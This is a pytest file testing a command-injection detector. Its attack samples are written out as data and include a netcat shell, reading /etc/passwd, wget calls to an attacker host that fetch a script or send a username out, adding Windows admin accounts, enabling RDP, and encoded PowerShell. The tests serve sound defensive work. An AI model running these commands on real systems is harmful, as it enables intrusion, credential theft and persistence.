"""Command injection rules by class of attack: escape text read as the characters it names, a
quote breakout followed by a command line, Windows account manipulation, interpreters told to
run code, command substitution escaped or not. Each rule: attacks it finds, look-alikes it
leaves."""

import pytest

from adapters.inspection.detectors.cmdi import cmdi_score
from adapters.inspection.detectors.inspector import DEFAULT_THRESHOLD
from core.domain.threat.model import AttackKind
from tests.support.threat import verdict

# -- 1. Escape text (``\n``, ``\r``, ``\t``, ``\033``/``\x1b``) is read as the characters it names.


@pytest.mark.parametrize(
    "value",
    [
        r"\nid\n",
        r"\r\nid\r\n",  # CRLF: the CR is whitespace, the LF the separator
        r"\r\ncat /etc/passwd",
        r"\nwhoami\n",
        r"\necho INJECTX\nexit\n\033[2Asleep 5\n",  # ESC[2A moves the cursor; ``sleep 5`` is shown
        r"\n\x1b[2Juname -a",
        r"\n\e[1muname -a",
        "\n\x1b[2Asleep 5",  # the control character itself, as a decoded ``%1b`` gives it
    ],
)
def test_escape_text_is_read_as_the_control_characters_it_names(value: str) -> None:
    assert verdict(value) is AttackKind.CMDI


@pytest.mark.parametrize(
    "value",
    [
        r"\n",
        r"\r",
        r"\t",
        r"\033",
        r"\tid",  # a tab is whitespace, not a separator
        r"Line one\nLine two",
        r"name\tid",
        r"\nhello\n",
        r"C:\temp\new\report.txt",  # inside a Windows path ``\t`` and ``\n`` are path separators
    ],
)
def test_escape_text_without_a_command_after_a_separator_stays_benign(value: str) -> None:
    assert verdict(value) is None


def test_escapes_inside_a_windows_path_are_not_read_as_control_characters() -> None:
    # The first ``\n`` is a newline; ``\t`` and ``\n`` in ``C:\temp\new`` separate path parts.
    assert cmdi_score(r"\ndir C:\temp\new")[0] == cmdi_score("\ndir C:\\Windows")[0] >= DEFAULT_THRESHOLD


# -- 2. Command substitution, escaped for a layer that unescapes it or not.


@pytest.mark.parametrize(
    "value",
    [
        "`id`",
        r"\`whoami\`",
        "$(id)",
        r"\$(id)",
        "$(uname -a)",
        r"\`uname -a\`",
        "x$(sleep 5)",
        r"\n\033[2wget http://203.0.113.9/x.txt?user=\`whoami\`",
    ],
)
def test_command_substitution_escaped_or_not_is_an_attack(value: str) -> None:
    assert verdict(value) is AttackKind.CMDI


@pytest.mark.parametrize("value", ["`code`", r"\`code\`", "$(document).ready", "$(this).hide()"])
def test_substitution_look_alikes_without_a_command_stay_benign(value: str) -> None:
    assert verdict(value) is None


# -- 3. A quote that breaks out of the application's string, then a whole command line.


@pytest.mark.parametrize("quote", ['"', "'"])
@pytest.mark.parametrize(
    "command",
    [
        "whoami",
        "id",
        "hostname",
        "ifconfig",
        "uname -a",
        "ipconfig /all",
        "cat /etc/passwd",
        "ping -c 5 127.0.0.1",
        "net user hacker Passw0rd /add",
    ],
)
@pytest.mark.parametrize("space", [" ", ""])
def test_a_quote_breakout_then_a_command_line_is_an_attack(quote: str, command: str, space: str) -> None:
    assert verdict(f"{quote}{space}{command}") is AttackKind.CMDI


@pytest.mark.parametrize(
    "value",
    [
        '"id" field',  # the quote is closed again: a quotation
        '" id"',
        '"hostname"',
        "'id' and 'name'",
        '" uname" is a field',
        '"ls -la" is the command',
        'the "whoami" command',
        '"Who am I?" - a novel',
        '"sleep 8 hours',  # a quote is weaker than a separator: every argument must be a shell's
        '"id like a refund',
        '" echo hello',
        "who am I",
        "what is my id",
    ],
)
def test_quotations_and_prose_after_a_quote_stay_benign(value: str) -> None:
    assert verdict(value) is None


# -- 4. Windows account manipulation: subcommand, account names and passwords, then a switch.


@pytest.mark.parametrize(
    "value",
    [
        "net localgroup Administrators hacker /ADD",
        "net user x y /add",
        "net user hacker P@ss123 /add",
        "net localgroup administrators x /add",
        "net user administrator /active:yes",
        "NET USER GUEST /ACTIVE:YES",
        'reg add "HKLM\\System\\CurrentControlSet\\Control\\Terminal Server" /v fDenyTSConnections /d 0 /f',
        "& net user hacker pass /add",
    ],
)
def test_windows_account_manipulation_is_an_attack(value: str) -> None:
    assert verdict(value) is AttackKind.CMDI


@pytest.mark.parametrize(
    "value",
    ["net user guide", "Net User Accounts", '"Net user" guide', "the net result", "net user x y -add"],
)
def test_windows_command_look_alikes_stay_benign(value: str) -> None:
    assert verdict(value) is None


# -- 5. Interpreters told to run code, and Windows paths typed with spaces.


@pytest.mark.parametrize(
    "value",
    [
        "cmd /c whoami",
        "cmd.exe /c dir",
        "cmd /k ipconfig",
        "powershell -enc SQBFAFgA",  # Base64 of UTF-16LE "IEX", as -EncodedCommand takes
        "powershell -e JABjAD0A",
        "powershell.exe -nop -w hidden -encodedcommand SQBFAFgA",
        "| powershell -enc SQBFAFgA",
        "dir C:\\Documents and Settings\\*",
    ],
)
def test_interpreters_running_code_and_windows_command_lines_are_attacks(value: str) -> None:
    assert verdict(value) is AttackKind.CMDI


@pytest.mark.parametrize(
    "value",
    [
        "powershell is great",
        "PowerShell tips and tricks",
        "bash -c is great",  # the run option is followed by prose, not code
        "powershell -enc Hello",  # not Base64 of UTF-16 text
        "the cmd key",
        "file: C:\\Program Files\\App\\app.exe",
        "C:\\Users\\Public\\Documents",
    ],
)
def test_interpreter_and_path_look_alikes_stay_benign(value: str) -> None:
    assert verdict(value) is None


# -- 6. What a shell does not run as a command.


@pytest.mark.parametrize(
    "value",
    [
        "id=5",  # a variable assignment runs nothing
        "a=1&b=2",
        "&id=1",
        "| ",
        "&&",
        "; ",
        "{{person.name}}",
        "shipping_address",
        "select a plan from our catalog",
        "id",
        "whoami",
        "my id is 42",
    ],
)
def test_assignments_bare_separators_and_words_stay_benign(value: str) -> None:
    assert verdict(value) is None


# -- 7. A value that starts with a command word, with no separator: one argument must be a shell's.


@pytest.mark.parametrize(
    "value",
    [
        "cat /etc/passwd",
        "ls -l /",
        "uname -a",
        "nc -lvvp 4444 -e /bin/sh",  # a port number beside options and a path
        "which python",  # a command as the argument
        "wget https://attacker.example/x.sh",
        "dir C:\\",
        "sleep 5",  # time and lookup probes are run bare with a number or a host
        "ping 10.0.0.1",
    ],
)
def test_a_bare_command_line_is_an_attack(value: str) -> None:
    assert verdict(value) is AttackKind.CMDI


@pytest.mark.parametrize(
    "value",
    [
        "top 10",
        "call 911",
        "call 1-800-555-0199",
        "set 3",
        "last 5",
        "start 2024-01-01",
        "make 1.5",
        "id card.pdf",  # file names with a space
        "cat pictures.zip",
        "w czasie.avi",
        "export 2023.csv",
    ],
)
def test_a_command_word_before_numbers_or_file_names_is_prose(value: str) -> None:
    assert verdict(value) is None
